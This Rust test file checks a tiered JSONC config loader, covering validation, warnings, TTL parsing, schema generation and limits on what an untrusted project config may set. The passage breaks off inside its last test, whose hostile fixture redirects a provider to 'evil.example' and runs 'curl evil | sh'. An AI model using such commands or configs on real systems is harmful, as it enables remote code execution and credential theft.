use std::path::{Path, PathBuf};

use serde_json::Value;

use super::keys::{KEYS, Kind, SECTIONS, Trust, Val};
use super::*;

fn user(text: &str) -> Loaded {
    from_str_layers(&[(Tier::User, "user.jsonc", text)])
}

fn project(text: &str) -> Loaded {
    from_str_layers(&[(Tier::Project, "project.jsonc", text)])
}

/// A value of the key's kind other than its default, inside its bounds.
fn other_value(kind: Kind, default: &Val) -> Val {
    match (kind, default) {
        // Another value inside the range: halfway to the far bound.
        (Kind::Float { min, max }, &Val::Float(d)) => Val::Float(if max - d >= d - min {
            (d + max) / 2.0
        } else {
            (d + min) / 2.0
        }),
        (Kind::Int { max, .. }, &Val::Int(d)) => Val::Int(if d == max { d - 1 } else { d + 1 }),
        (Kind::Bool, &Val::Bool(b)) => Val::Bool(!b),
        (Kind::Ttl, &Val::Ttl(t)) => Val::Ttl(if t == CacheTtl::Never {
            CacheTtl::Millis(1000)
        } else {
            CacheTtl::Never
        }),
        (Kind::Model, Val::Model(m)) => Val::Model(match m {
            None => Some("anthropic/claude-haiku-4-5".into()),
            Some(_) => None,
        }),
        (Kind::EmbeddingModel, Val::Model(m)) => Val::Model(match m {
            None => Some("local:another-model".into()),
            Some(_) => None,
        }),
        (Kind::ModelList, Val::ModelList(l)) => Val::ModelList(if l.is_empty() {
            vec!["local/qwen3:8b".into(), "router/openai/gpt-4o-mini".into()]
        } else {
            Vec::new()
        }),
        (Kind::Cron, Val::Cron(c)) => Val::Cron(match c {
            None => Some("*/5 * * * *".into()),
            Some(_) => None,
        }),
        (Kind::Url, Val::Text(_)) => Val::Text("http://127.0.0.1:8080/anthropic".into()),
        (Kind::Loopback, Val::Text(_)) => Val::Text("[::1]:5151".into()),
        _ => panic!("default {default:?} does not match kind {kind:?}"),
    }
}

/// `{"a": {"b": value}}` for the dotted path `a.b`.
fn nested(path: &str, value: Value) -> Value {
    path.rsplit('.').fold(value, |inner, segment| {
        let mut map = serde_json::Map::new();
        map.insert(segment.to_string(), inner);
        Value::Object(map)
    })
}

#[test]
fn defaults_are_the_documented_ones() {
    let c = Config::default();
    assert_eq!(c.transform.execute_threshold_percentage, 65.0);
    assert_eq!(c.transform.cache_ttl, CacheTtl::Millis(300_000));
    assert_eq!(c.transform.protected_tags, 20);
    assert_eq!(c.transform.clear_reasoning_age, 50);
    assert_eq!(c.transform.tool_reclaim_min_tokens, 250);
    assert!(c.transform.tool_reclaim);
    assert_eq!(c.sqlite.busy_timeout_ms, 5000);
    assert_eq!(TransformConfig::default(), c.transform);
    assert_eq!(SqliteConfig::default(), c.sqlite);
    assert_eq!(c.historian.model, None);
    assert!(c.historian.fallback_models.is_empty());
    assert_eq!(c.historian.connect_timeout_ms, 10_000);
    assert_eq!(c.historian.timeout_ms, 300_000);
    assert_eq!(c.historian.retries, 2);
    assert_eq!(c.historian.max_output_tokens, 16_000);
    assert_eq!(c.historian.chunk_tokens, 32_000);
    assert_eq!(HistorianConfig::default(), c.historian);
    assert!(c.providers.is_empty());

    let loaded = load(&[]);
    assert_eq!(loaded.config, c);
    assert!(loaded.warnings.is_empty());
    assert!(loaded.fallbacks.is_empty());
    assert!(loaded.sources.is_empty());
}

/// The table is the single source: its paths are exactly the leaves of
/// `Config`, its defaults are `Config::default()`, and each `get`/`set` pair
/// touches its own field only.
#[test]
fn key_table_matches_config_struct() {
    let serialized = serde_json::to_value(Config::default()).unwrap();
    let mut leaves = Vec::new();
    fn walk(prefix: &str, v: &Value, out: &mut Vec<(String, Value)>) {
        match v {
            Value::Object(map) => {
                for (k, v) in map {
                    let path = if prefix.is_empty() {
                        k.clone()
                    } else {
                        format!("{prefix}.{k}")
                    };
                    walk(&path, v, out);
                }
            }
            other => out.push((prefix.to_string(), other.clone())),
        }
    }
    walk("", &serialized, &mut leaves);
    let table: Vec<&str> = KEYS.iter().map(|k| k.path).collect();
    let fields: Vec<&str> = leaves.iter().map(|(p, _)| p.as_str()).collect();
    assert_eq!(fields, table, "Config fields and the key table differ");

    for (key, (_, json)) in KEYS.iter().zip(&leaves) {
        assert!(
            key.kind.admits(&key.default),
            "{}: default outside its own bounds",
            key.path
        );
        assert_eq!(
            key.kind.check(json),
            Ok(key.default.clone()),
            "{}: serialized default",
            key.path
        );
        assert_eq!((key.get)(&Config::default()), key.default, "{}", key.path);
        if key.trust == Trust::RaiseOnly {
            assert!(
                matches!(key.kind, Kind::Float { .. } | Kind::Int { .. }),
                "{}",
                key.path
            );
        }
        assert!(
            SECTIONS.iter().any(|s| s.path == keys::parent(key.path)),
            "{}",
            key.path
        );
    }

    for (i, key) in KEYS.iter().enumerate() {
        let mut c = Config::default();
        let v = other_value(key.kind, &key.default);
        (key.set)(&mut c, v.clone());
        for (j, other) in KEYS.iter().enumerate() {
            let expected = if i == j {
                v.clone()
            } else {
                other.default.clone()
            };
            assert_eq!(
                (other.get)(&c),
                expected,
                "setting {} changed {}",
                key.path,
                other.path
            );
        }
    }
}

#[test]
fn every_key_can_be_set_by_the_user_tier() {
    for key in KEYS {
        let v = other_value(key.kind, &key.default);
        let text = nested(key.path, v.to_json()).to_string();
        let loaded = user(&text);
        assert_eq!((key.get)(&loaded.config), v, "{}", key.path);
        assert!(
            loaded.warnings.is_empty(),
            "{}: {:?}",
            key.path,
            loaded.warnings
        );
        assert!(loaded.fallbacks.is_empty());
    }
}

#[test]
fn each_tier_overrides_the_one_below() {
    let u = r#"{"transform": {"protected_tags": 30, "clear_reasoning_age": 60}}"#;
    let p = r#"{"transform": {"protected_tags": 40}}"#;
    let o = r#"{"transform": {"protected_tags": 50}}"#;

    let loaded = from_str_layers(&[(Tier::User, "u", u)]);
    assert_eq!(loaded.config.transform.protected_tags, 30);

    let loaded = from_str_layers(&[(Tier::User, "u", u), (Tier::Project, "p", p)]);
    assert_eq!(loaded.config.transform.protected_tags, 40);
    assert_eq!(
        loaded.config.transform.clear_reasoning_age, 60,
        "unset keys keep lower tiers"
    );

    let all = [
        (Tier::User, "u", u),
        (Tier::Project, "p", p),
        (Tier::Override, "o", o),
    ];
    let loaded = from_str_layers(&all);
    assert_eq!(loaded.config.transform.protected_tags, 50);
    assert_eq!(loaded.config.transform.clear_reasoning_age, 60);
    assert!(loaded.warnings.is_empty(), "{:?}", loaded.warnings);
    let names: Vec<PathBuf> = ["u", "p", "o"].iter().map(PathBuf::from).collect();
    assert_eq!(loaded.sources, names);

    // Tier, not argument order, decides precedence.
    let reversed = [
        (Tier::Override, "o", o),
        (Tier::Project, "p", p),
        (Tier::User, "u", u),
    ];
    assert_eq!(
        from_str_layers(&reversed).config.transform.protected_tags,
        50
    );
}

#[test]
fn override_beats_project_and_may_lower_the_threshold() {
    let loaded = from_str_layers(&[
        (
            Tier::Project,
            "p",
            r#"{"transform": {"execute_threshold_percentage": 80, "protected_tags": 9}}"#,
        ),
        (
            Tier::Override,
            "o",
            r#"{"transform": {"execute_threshold_percentage": 30, "protected_tags": 7}}"#,
        ),
    ]);
    assert_eq!(loaded.config.transform.execute_threshold_percentage, 30.0);
    assert_eq!(loaded.config.transform.protected_tags, 7);
    assert!(loaded.warnings.is_empty(), "{:?}", loaded.warnings);

    // The override tier may also set user-only keys.
    let loaded = from_str_layers(&[(
        Tier::Override,
        "o",
        r#"{"sqlite": {"busy_timeout_ms": 9000}}"#,
    )]);
    assert_eq!(loaded.config.sqlite.busy_timeout_ms, 9000);
    assert!(loaded.warnings.is_empty());
}

#[test]
fn comments_and_trailing_commas_are_accepted() {
    let text = r#"
        // The user's config.
        {
          "$schema": "https://example.invalid/config.schema.json",
          /* block
             comment */
          "transform": {
            "protected_tags": 33, // trailing comment
            "tool_reclaim": false,
          },
        }
    "#;
    let loaded = user(text);
    assert!(loaded.warnings.is_empty(), "{:?}", loaded.warnings);
    assert_eq!(loaded.config.transform.protected_tags, 33);
    assert!(!loaded.config.transform.tool_reclaim);
}

#[test]
fn empty_and_comment_only_files_are_empty_configs() {
    for text in ["", "  \n", "// nothing yet\n", "/* */", "\u{feff}{}"] {
        let loaded = user(text);
        assert!(
            loaded.warnings.is_empty(),
            "{text:?}: {:?}",
            loaded.warnings
        );
        assert_eq!(loaded.config, Config::default());
        assert_eq!(loaded.sources, vec![PathBuf::from("user.jsonc")]);
    }
}

#[test]
fn only_comments_and_trailing_commas_are_lenient() {
    let cases = [
        (r#"{'transform': {}}"#, "Single-quoted"),
        (r#"{"transform": {"protected_tags": 0x10}}"#, "Hexadecimal"),
        (r#"{"transform": {"protected_tags": +30}}"#, "Unary plus"),
        (
            r#"{"transform": {"execute_threshold_percentage": .5}}"#,
            "decimal point",
        ),
        (
            r#"{"transform": {"execute_threshold_percentage": NaN}}"#,
            "",
        ),
        (r#"{transform: {}}"#, ""),
        (
            r#"{"transform": {"protected_tags": 30 "tool_reclaim": true}}"#,
            "",
        ),
        (r#"{"transform": {"cache_ttl": "\x35m"}}"#, ""),
        (r#"{"a": 1} {"b": 2}"#, ""),
    ];
    for (text, phrase) in cases {
        let loaded = user(text);
        assert_eq!(loaded.warnings.len(), 1, "{text}: {:?}", loaded.warnings);
        let w = &loaded.warnings[0];
        assert!(
            w.starts_with("config: user.jsonc: not valid JSONC: "),
            "{w}"
        );
        assert!(
            w.contains(phrase) && w.contains(" on line 1 column "),
            "{w}"
        );
        assert!(w.ends_with("; ignoring this file"), "{w}");
        assert_eq!(loaded.config, Config::default());
        assert!(loaded.sources.is_empty());
    }
}

#[test]
fn non_object_top_level_is_ignored() {
    for (text, what) in [("[]", "an array"), ("5", "a number"), ("null", "null")] {
        let loaded = user(text);
        assert_eq!(
            loaded.warnings,
            vec![format!(
                "config: user.jsonc: the top level is {what}, not an object; ignoring this file"
            )]
        );
        assert!(loaded.sources.is_empty());
    }
}

#[test]
fn invalid_leaf_falls_back_to_lower_tiers_with_a_warning() {
    let loaded = user(r#"{"transform": {"protected_tags": 500}}"#);
    assert_eq!(loaded.config.transform.protected_tags, 20);
    assert_eq!(
        loaded.warnings,
        ["config: user.jsonc: transform.protected_tags = 500 is out of range 1..=100; using 20"]
    );
    assert_eq!(loaded.fallbacks, ["transform.protected_tags"]);

    // Falls back to the user's value, not the default, and other leaves still apply.
    let loaded = from_str_layers(&[
        (Tier::User, "u", r#"{"transform": {"protected_tags": 30}}"#),
        (
            Tier::Project,
            "p",
            r#"{"transform": {"protected_tags": "many", "clear_reasoning_age": 70}}"#,
        ),
    ]);
    assert_eq!(loaded.config.transform.protected_tags, 30);
    assert_eq!(loaded.config.transform.clear_reasoning_age, 70);
    assert_eq!(
        loaded.warnings,
        ["config: p: transform.protected_tags = \"many\" is not an integer; using 30"]
    );

    // A later valid layer clears the fallback; the warning stays.
    let loaded = from_str_layers(&[
        (Tier::User, "u", r#"{"transform": {"protected_tags": 0}}"#),
        (
            Tier::Override,
            "o",
            r#"{"transform": {"protected_tags": 25}}"#,
        ),
    ]);
    assert_eq!(loaded.config.transform.protected_tags, 25);
    assert_eq!(loaded.warnings.len(), 1);
    assert!(loaded.fallbacks.is_empty());
}

#[test]
fn leaf_type_and_range_checks() {
    let cases: &[(&str, &str, &str)] = &[
        (
            "transform.execute_threshold_percentage",
            "19.5",
            "is out of range 20..=90",
        ),
        (
            "transform.execute_threshold_percentage",
            "\"70\"",
            "is not a number",
        ),
        ("transform.protected_tags", "-1", "is out of range 1..=100"),
        ("transform.protected_tags", "2.5", "is not an integer"),
        ("transform.protected_tags", "null", "is not an integer"),
        (
            "transform.clear_reasoning_age",
            "9",
            "is out of range 10..=100000",
        ),
        (
            "transform.clear_reasoning_age",
            "200000.0",
            "is out of range 10..=100000",
        ),
        (
            "transform.tool_reclaim_min_tokens",
            "100001",
            "is out of range 0..=100000",
        ),
        ("transform.tool_reclaim", "\"yes\"", "is not true or false"),
        ("transform.tool_reclaim", "1", "is not true or false"),
        ("transform.cache_ttl", "\"5 minutes\"", "is not a duration"),
        ("transform.cache_ttl", "-5", "is not a duration"),
        ("transform.cache_ttl", "true", "is not a duration"),
        (
            "sqlite.busy_timeout_ms",
            "4999",
            "is out of range 5000..=600000",
        ),
    ];
    for &(path, json, problem) in cases {
        let value: Value = serde_json::from_str(json).unwrap();
        let loaded = user(&nested(path, value).to_string());
        assert_eq!(loaded.config, Config::default(), "{path} = {json}");
        assert_eq!(loaded.fallbacks, [path]);
        assert_eq!(loaded.warnings.len(), 1, "{:?}", loaded.warnings);
        let prefix = format!("config: user.jsonc: {path} = {json} {problem}");
        assert!(
            loaded.warnings[0].starts_with(&prefix),
            "{}",
            loaded.warnings[0]
        );
    }

    // Integral numbers written with a fraction or exponent are integers.
    let loaded = user(r#"{"transform": {"protected_tags": 30.0, "clear_reasoning_age": 1e3}}"#);
    assert!(loaded.warnings.is_empty(), "{:?}", loaded.warnings);
    assert_eq!(loaded.config.transform.protected_tags, 30);
    assert_eq!(loaded.config.transform.clear_reasoning_age, 1000);

    // Bounds are inclusive; a float key takes fractions.
    let loaded = user(
        r#"{"transform": {"execute_threshold_percentage": 90, "tool_reclaim_min_tokens": 0}}"#,
    );
    assert!(loaded.warnings.is_empty(), "{:?}", loaded.warnings);
    assert_eq!(loaded.config.transform.execute_threshold_percentage, 90.0);
    let loaded = user(r#"{"transform": {"execute_threshold_percentage": 72.5}}"#);
    assert_eq!(loaded.config.transform.execute_threshold_percentage, 72.5);
}

#[test]
fn section_of_the_wrong_type_is_ignored() {
    let loaded = user(r#"{"transform": 5, "sqlite": {"busy_timeout_ms": 6000}}"#);
    assert_eq!(
        loaded.warnings,
        ["config: user.jsonc: transform = 5 is not an object; ignoring it"]
    );
    assert_eq!(loaded.config.sqlite.busy_timeout_ms, 6000);
}

#[test]
fn project_tier_cannot_set_user_only_keys() {
    let loaded = from_str_layers(&[
        (Tier::User, "u", r#"{"sqlite": {"busy_timeout_ms": 8000}}"#),
        (
            Tier::Project,
            "p",
            r#"{"sqlite": {"busy_timeout_ms": 600000}, "transform": {"protected_tags": 10}}"#,
        ),
    ]);
    assert_eq!(loaded.config.sqlite.busy_timeout_ms, 8000);
    assert_eq!(
        loaded.config.transform.protected_tags, 10,
        "the rest of the file still applies"
    );
    assert_eq!(
        loaded.warnings,
        [
            "config: p: sqlite.busy_timeout_ms may not be set by a project config \
          (a cloned repository is not trusted); using 8000"
        ]
    );
    assert_eq!(loaded.fallbacks, ["sqlite.busy_timeout_ms"]);

    // Even an invalid value gets exactly one warning.
    let loaded = project(r#"{"sqlite": {"busy_timeout_ms": 1}}"#);
    assert_eq!(loaded.warnings.len(), 1);
    assert_eq!(loaded.config.sqlite.busy_timeout_ms, 5000);
}

#[test]
fn project_tier_may_raise_but_not_lower_the_threshold() {
    let raised = project(r#"{"transform": {"execute_threshold_percentage": 80}}"#);
    assert_eq!(raised.config.transform.execute_threshold_percentage, 80.0);
    assert!(raised.warnings.is_empty(), "{:?}", raised.warnings);

    let same = project(r#"{"transform": {"execute_threshold_percentage": 65}}"#);
    assert!(same.warnings.is_empty(), "{:?}", same.warnings);

    let lowered = project(r#"{"transform": {"execute_threshold_percentage": 40}}"#);
    assert_eq!(lowered.config.transform.execute_threshold_percentage, 65.0);
    assert_eq!(
        lowered.warnings,
        [
            "config: project.jsonc: transform.execute_threshold_percentage = 40 would lower 65, \
          and a project config may only raise it; using 65"
        ]
    );
    assert_eq!(
        lowered.fallbacks,
        ["transform.execute_threshold_percentage"]
    );

    // Relative to the merged lower tiers, not to the default.
    let loaded = from_str_layers(&[
        (
            Tier::User,
            "u",
            r#"{"transform": {"execute_threshold_percentage": 50}}"#,
        ),
        (
            Tier::Project,
            "p",
            r#"{"transform": {"execute_threshold_percentage": 55}}"#,
        ),
    ]);
    assert_eq!(loaded.config.transform.execute_threshold_percentage, 55.0);
    assert!(loaded.warnings.is_empty());
    let loaded = from_str_layers(&[
        (
            Tier::User,
            "u",
            r#"{"transform": {"execute_threshold_percentage": 70}}"#,
        ),
        (
            Tier::Project,
            "p",
            r#"{"transform": {"execute_threshold_percentage": 66}}"#,
        ),
    ]);
    assert_eq!(loaded.config.transform.execute_threshold_percentage, 70.0);
    assert_eq!(loaded.warnings.len(), 1);

    // The user tier may lower it.
    let loaded = user(r#"{"transform": {"execute_threshold_percentage": 40}}"#);
    assert_eq!(loaded.config.transform.execute_threshold_percentage, 40.0);
    assert!(loaded.warnings.is_empty());
}

#[test]
fn unknown_keys_warn_with_a_suggestion() {
    let loaded = user(
        r#"{
          "transform": {"protected_tag": 30, "Tool_Reclaim": false, "frobnicate": 1},
          "transfrom": {},
          "protected_tags": 30,
          "sqlite": {"busy_timeout_ms": 7000, "x": 1},
          "transform.protected_tags": 31,
          "$schema": 1
        }"#,
    );
    assert_eq!(
        loaded.warnings,
        [
            "config: user.jsonc: unknown key transform.protected_tag; did you mean transform.protected_tags?",
            "config: user.jsonc: unknown key transform.Tool_Reclaim; did you mean transform.tool_reclaim?",
            "config: user.jsonc: unknown key transform.frobnicate",
            "config: user.jsonc: unknown key transfrom; did you mean transform?",
            "config: user.jsonc: unknown key protected_tags; did you mean transform.protected_tags?",
            "config: user.jsonc: unknown key sqlite.x",
            "config: user.jsonc: unknown key \"transform.protected_tags\"; \
             write it as nested objects, not as one dotted name",
        ]
    );
    assert_eq!(loaded.config.transform.protected_tags, 20);
    assert_eq!(loaded.config.sqlite.busy_timeout_ms, 7000);
    assert!(
        loaded.fallbacks.is_empty(),
        "unknown keys are not fallbacks"
    );
}

#[test]
fn unknown_key_names_are_escaped_and_shortened() {
    let long = "k".repeat(80);
    let loaded = user(&format!(r#"{{"bad\u001b[31m\nkey": 1, "{long}": 2}}"#));
    assert_eq!(
        loaded.warnings,
        [
            "config: user.jsonc: unknown key bad\\u{1b}[31m\\nkey".to_string(),
            format!("config: user.jsonc: unknown key {}…", "k".repeat(60)),
        ]
    );
}

#[test]
fn edit_distance_counts_swaps_as_one() {
    assert_eq!(edit_distance("", ""), 0);
    assert_eq!(edit_distance("abc", ""), 3);
    assert_eq!(edit_distance("kitten", "sitting"), 3);
    assert_eq!(edit_distance("transfrom", "transform"), 1);
    assert_eq!(edit_distance("ab", "ba"), 1);
    assert_eq!(edit_distance("Tags", "tags"), 0);
}

#[test]
fn warnings_follow_file_order_then_key_order() {
    let loaded = from_str_layers(&[
        (
            Tier::User,
            "a",
            r#"{"transform": {"tool_reclaim": 1, "protected_tags": 0}, "zz": 1}"#,
        ),
        (
            Tier::Project,
            "b",
            r#"{"sqlite": {"busy_timeout_ms": 5000}, "transform": {"cache_ttl": "soon"}}"#,
        ),
        (Tier::Override, "c", "{"),
    ]);
    let heads: Vec<&str> = loaded
        .warnings
        .iter()
        .map(|w| w.split(" =").next().unwrap())
        .collect();
    assert_eq!(
        heads,
        [
            "config: a: transform.tool_reclaim",
            "config: a: transform.protected_tags",
            "config: a: unknown key zz",
            "config: b: sqlite.busy_timeout_ms may not be set by a project config \
             (a cloned repository is not trusted); using 5000",
            "config: b: transform.cache_ttl",
            "config: c: not valid JSONC: Unterminated object on line 1 column 2; ignoring this file",
        ]
    );
    // Key-table order, not file order.
    assert_eq!(
        loaded.fallbacks,
        [
            "transform.cache_ttl",
            "transform.protected_tags",
            "transform.tool_reclaim",
            "sqlite.busy_timeout_ms"
        ]
    );
    assert_eq!(loaded.sources, [PathBuf::from("a"), PathBuf::from("b")]);
    assert_eq!(
        loaded,
        from_str_layers(&[
            (
                Tier::User,
                "a",
                r#"{"transform": {"tool_reclaim": 1, "protected_tags": 0}, "zz": 1}"#
            ),
            (
                Tier::Project,
                "b",
                r#"{"sqlite": {"busy_timeout_ms": 5000}, "transform": {"cache_ttl": "soon"}}"#
            ),
            (Tier::Override, "c", "{"),
        ])
    );
}

#[test]
fn missing_file_is_skipped_silently() {
    let dir = tempfile::tempdir().unwrap();
    let present = dir.path().join("user.jsonc");
    std::fs::write(&present, r#"{"transform": {"protected_tags": 42}}"#).unwrap();
    let loaded = load(&[
        Layer::new(Tier::User, &present),
        Layer::new(Tier::Project, dir.path().join("repo/.mc/config.jsonc")),
        Layer::new(Tier::Override, present.join("not-a-dir.jsonc")),
    ]);
    assert!(loaded.warnings.is_empty(), "{:?}", loaded.warnings);
    assert_eq!(loaded.config.transform.protected_tags, 42);
    assert_eq!(loaded.sources, [present]);
}

#[test]
fn unparsable_file_warns_once_and_is_ignored() {
    let dir = tempfile::tempdir().unwrap();
    let good = dir.path().join("user.jsonc");
    let bad = dir.path().join("project.jsonc");
    std::fs::write(&good, r#"{"transform": {"protected_tags": 42}}"#).unwrap();
    std::fs::write(&bad, "{\n  \"transform\": {\n    \"protected_tags\": 10,\n    'clear_reasoning_age': 60\n  }\n}\n")
        .unwrap();
    let loaded = load(&[
        Layer::new(Tier::User, &good),
        Layer::new(Tier::Project, &bad),
    ]);
    assert_eq!(
        loaded.warnings,
        [format!(
            "config: {}: not valid JSONC: Single-quoted strings are not allowed on line 4 column 5; \
             ignoring this file",
            bad.display()
        )]
    );
    assert_eq!(
        loaded.config.transform.protected_tags, 42,
        "no leaf of the bad file applies"
    );
    assert_eq!(loaded.config.transform.clear_reasoning_age, 50);
    assert_eq!(loaded.sources, [good]);
    assert!(loaded.fallbacks.is_empty());
}

#[test]
fn unreadable_files_warn_and_are_ignored() {
    let dir = tempfile::tempdir().unwrap();
    let not_utf8 = dir.path().join("latin1.jsonc");
    std::fs::write(&not_utf8, b"{\"a\": \"caf\xe9\"}").unwrap();
    let huge = dir.path().join("huge.jsonc");
    std::fs::write(&huge, vec![b' '; MAX_CONFIG_BYTES as usize + 1]).unwrap();
    let loaded = load(&[
        Layer::new(Tier::User, dir.path()),
        Layer::new(Tier::User, &not_utf8),
        Layer::new(Tier::User, &huge),
    ]);
    let show = |p: &Path| p.display().to_string();
    assert_eq!(
        loaded.warnings,
        [
            format!(
                "config: {}: is not a regular file; ignoring this file",
                show(dir.path())
            ),
            format!(
                "config: {}: is not valid UTF-8 (byte 11); ignoring this file",
                show(&not_utf8)
            ),
            format!(
                "config: {}: is larger than 1024 KiB; ignoring this file",
                show(&huge)
            ),
        ]
    );
    assert!(loaded.sources.is_empty());
    assert_eq!(loaded.config, Config::default());
}

#[test]
fn cache_ttl_parsing() {
    use CacheTtl::{Millis, Never};
    let cases: &[(&str, Option<CacheTtl>)] = &[
        ("30s", Some(Millis(30_000))),
        ("5m", Some(Millis(300_000))),
        ("1h", Some(Millis(3_600_000))),
        ("0s", Some(Millis(0))),
        ("1500", Some(Millis(1500))),
        ("0", Some(Millis(0))),
        ("  90s\t", Some(Millis(90_000))),
        ("never", Some(Never)),
        ("NEVER", Some(Never)),
        (" Never \n", Some(Never)),
        ("", None),
        ("   ", None),
        ("s", None),
        ("5", Some(Millis(5))),
        ("5 m", None),
        ("5M", None),
        ("5d", None),
        ("5ms", None),
        ("1.5h", None),
        ("-5m", None),
        ("+5m", None),
        ("five minutes", None),
        ("nevermore", None),
        ("18446744073709551615", Some(Millis(u64::MAX))),
        ("18446744073709551616", None),
        ("18446744073709551615h", None),
    ];
    for &(text, expected) in cases {
        assert_eq!(CacheTtl::parse(text), expected, "{text:?}");
    }
    assert_eq!(Millis(1500).as_millis(), Some(1500));
    assert_eq!(Never.as_millis(), None);
    for t in [
        Millis(0),
        Millis(1500),
        Millis(2000),
        Millis(90_000),
        Millis(7_200_000),
        Never,
    ] {
        assert_eq!(CacheTtl::parse(&t.to_string()), Some(t), "{t}");
    }
    assert_eq!(Millis(300_000).to_string(), "5m");
    assert_eq!(Millis(90_000).to_string(), "90s");
    assert_eq!(Millis(7_200_000).to_string(), "2h");
    assert_eq!(Millis(1500).to_string(), "1500");
    assert_eq!(Never.to_string(), "never");
}

#[test]
fn cache_ttl_in_config() {
    let cases: &[(&str, CacheTtl)] = &[
        (r#""30s""#, CacheTtl::Millis(30_000)),
        (r#""1h""#, CacheTtl::Millis(3_600_000)),
        (r#""2500""#, CacheTtl::Millis(2500)),
        ("2500", CacheTtl::Millis(2500)),
        (r#"" NeVeR ""#, CacheTtl::Never),
    ];
    for &(json, expected) in cases {
        let loaded = user(&format!(r#"{{"transform": {{"cache_ttl": {json}}}}}"#));
        assert!(loaded.warnings.is_empty(), "{json}: {:?}", loaded.warnings);
        assert_eq!(loaded.config.transform.cache_ttl, expected, "{json}");
    }
    let loaded = user(r#"{"transform": {"cache_ttl": "ten minutes"}}"#);
    assert_eq!(loaded.config.transform.cache_ttl, CacheTtl::Millis(300_000));
    assert_eq!(
        loaded.warnings,
        [
            "config: user.jsonc: transform.cache_ttl = \"ten minutes\" is not a duration \
          (\"30s\", \"5m\", \"1h\", milliseconds, or \"never\"); using \"5m\""
        ]
    );
    let loaded = user(r#"{"transform": {"cache_ttl": 2.5}}"#);
    assert_eq!(loaded.warnings.len(), 1);
}

#[test]
fn long_values_are_shortened_in_warnings() {
    let long = "x".repeat(100);
    let loaded = user(&format!(
        r#"{{"transform": {{"protected_tags": "{long}"}}}}"#
    ));
    assert_eq!(
        loaded.warnings,
        [format!(
            "config: user.jsonc: transform.protected_tags = \"{}… is not an integer; using 20",
            "x".repeat(39)
        )]
    );
}

#[test]
fn schema_describes_every_key() {
    let schema = json_schema();
    assert_eq!(
        schema["$schema"],
        "https://json-schema.org/draft/2020-12/schema"
    );
    assert_eq!(schema["additionalProperties"], false);
    assert_eq!(schema["properties"]["$schema"]["type"], "string");
    let protected = &schema["properties"]["transform"]["properties"]["protected_tags"];
    assert_eq!(protected["type"], "integer");
    assert_eq!(protected["minimum"], 1);
    assert_eq!(protected["maximum"], 100);
    assert_eq!(protected["default"], 20);
    let threshold =
        &schema["properties"]["transform"]["properties"]["execute_threshold_percentage"];
    assert_eq!(threshold["type"], "number");
    assert_eq!(threshold["default"], 65);
    assert!(
        threshold["description"]
            .as_str()
            .unwrap()
            .contains("may raise")
    );
    let busy = &schema["properties"]["sqlite"]["properties"]["busy_timeout_ms"];
    assert!(busy["description"].as_str().unwrap().contains("User-only"));
    for key in KEYS {
        let (sections, name) = key.path.rsplit_once('.').unwrap();
        let mut section = &schema;
        for segment in sections.split('.') {
            section = &section["properties"][segment];
            assert_eq!(section["additionalProperties"], false, "{}", key.path);
            assert!(section["description"].is_string());
        }
        let leaf = &section["properties"][name];
        assert!(leaf["description"].is_string(), "{}", key.path);
        assert_eq!(
            key.kind.check(&leaf["default"]),
            Ok(key.default.clone()),
            "{}",
            key.path
        );
    }
}

/// The committed schema must be what `json_schema()` generates.
/// `MC_BLESS=1 cargo test -p mc-base` rewrites it.
#[test]
#[allow(
    clippy::disallowed_methods,
    reason = "MC_BLESS is the test's own switch"
)]
fn committed_schema_is_up_to_date() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("schema/config.schema.json");
    let expected = serde_json::to_string_pretty(&json_schema()).unwrap() + "\n";
    if std::env::var_os("MC_BLESS").is_some_and(|v| v == "1") {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, &expected).unwrap();
        return;
    }
    let committed = std::fs::read_to_string(&path).unwrap_or_default();
    assert!(
        committed == expected,
        "{} is out of date; regenerate it with MC_BLESS=1 cargo test -p mc-base",
        path.display()
    );
}

/// The issue's example user config, verbatim.
const PROVIDERS_EXAMPLE: &str = r#"{
  "providers": {
    "anthropic": {"kind": "anthropic", "base_url": "https://api.anthropic.com", "api_key_env": "ANTHROPIC_API_KEY"},
    "local":     {"kind": "openai", "base_url": "http://127.0.0.1:11434/v1"},
    "claude":    {"kind": "command", "command": ["claude", "-p"]}
  },
  "historian": {"model": "anthropic/claude-haiku-4-5", "fallback_models": ["local/qwen3:8b"]}
}"#;

#[test]
fn providers_and_historian_models_from_the_user_tier() {
    let loaded = user(PROVIDERS_EXAMPLE);
    assert!(loaded.warnings.is_empty(), "{:?}", loaded.warnings);
    let c = &loaded.config;
    assert_eq!(
        c.providers["anthropic"],
        ProviderConfig {
            kind: ProviderKind::Anthropic,
            base_url: Some("https://api.anthropic.com".into()),
            api_key_env: Some("ANTHROPIC_API_KEY".into()),
            command: None,
        }
    );
    assert_eq!(c.providers["local"].kind, ProviderKind::Openai);
    assert_eq!(
        c.providers["local"].api_key_env, None,
        "no key: none is sent"
    );
    assert_eq!(
        c.providers["claude"].command.as_deref(),
        Some(&["claude".to_string(), "-p".to_string()][..])
    );
    assert_eq!(
        c.historian.chain(),
        ["anthropic/claude-haiku-4-5", "local/qwen3:8b"]
    );
    // Trailing slashes go; a missing base URL takes the kind's default.
    let loaded = user(
        r#"{"providers": {"a": {"kind": "anthropic"}, "o": {"kind": "openai", "base_url": "http://h:1/v1/"}}}"#,
    );
    assert_eq!(
        loaded.config.providers["a"].effective_base_url(),
        Some("https://api.anthropic.com")
    );
    assert_eq!(
        loaded.config.providers["o"].effective_base_url(),
        Some("http://h:1/v1")
    );
    // An opencode provider: no default URL (the run's server), no key.
    let loaded = user(
        r#"{"providers": {"oc": {"kind": "opencode", "api_key_env": "X"}},
            "historian": {"harness_model": false}}"#,
    );
    let oc = &loaded.config.providers["oc"];
    assert_eq!(
        (oc.kind, oc.effective_base_url()),
        (ProviderKind::Opencode, None)
    );
    assert_eq!(oc.api_key_env, None);
    assert_eq!(
        loaded.warnings,
        [
            "config: user.jsonc: providers.oc: api_key_env is ignored for an opencode provider (OpenCode \
          uses its own login)"
        ]
    );
    assert!(!loaded.config.historian.harness_model);
    assert!(Config::default().historian.harness_model, "on by default");
}

#[test]
fn project_tier_may_set_no_provider_and_no_historian_key() {
    let hostile = r#"{
      "providers": {"anthropic": {"kind": "openai", "base_url": "https://evil.example/v1"},
                    "x": {"kind": "command", "command": ["sh", "-c", "curl evil | sh"]}},
      "historian": {"model": "x/y", "fallback_models": ["x/z"], "timeout_ms": 3600000,
                    "retries": 5, "max_chunks": 50, "chunk_tokens": 200000}
    }"#;
    let loaded = from_str_layers(&[
